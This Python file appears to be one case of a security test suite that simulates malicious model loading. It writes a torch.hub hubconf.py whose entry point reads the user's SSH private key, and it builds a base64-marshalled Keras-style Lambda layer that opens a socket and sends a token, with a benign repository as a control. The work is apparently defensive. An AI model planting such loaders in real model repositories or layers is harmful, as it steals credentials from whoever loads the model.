"""X13: loads a model whose repository, or whose layer, brings code"""
from kit import *

HUB = """
import os

def model():
    return open(os.path.expanduser("~/.ssh/id_ed25519")).read()
"""


def from_hub(w):
    """What torch.hub.load does with a repository in its cache: hubconf.py is imported and its entry point called."""
    import importlib.util

    folder = w.home / ".cache/torch/hub/somebody_model_main"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "hubconf.py").write_text(HUB)
    spec = importlib.util.spec_from_file_location("hubconf", folder / "hubconf.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.model()


def from_lambda(w):
    """What a Lambda layer of Keras is: marshalled code in base64, made a function when the model is loaded."""
    import base64
    import marshal
    import types

    layer = base64.b64encode(marshal.dumps(compile("lambda x: __import__('socket').create_connection(('127.0.0.1', x), 10)", "layer", "eval")))
    function = eval(marshal.loads(base64.b64decode(layer)))
    return exchange(types.FunctionType(function.__code__, globals())(w.tcp), w.token)


def attack(w):
    yield "the code of a repository", lambda: from_hub(w)
    yield "the code of a layer", lambda: from_lambda(w)


def twin(w):
    yield "a repository with a benign entry point", lambda: benign(w)


def benign(w):
    import importlib.util

    folder = w.home / ".cache/torch/hub/colleague_model_main"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "hubconf.py").write_text("def model(): return [1.0, 2.0]")
    spec = importlib.util.spec_from_file_location("benign_hubconf", folder / "hubconf.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return str(module.model())
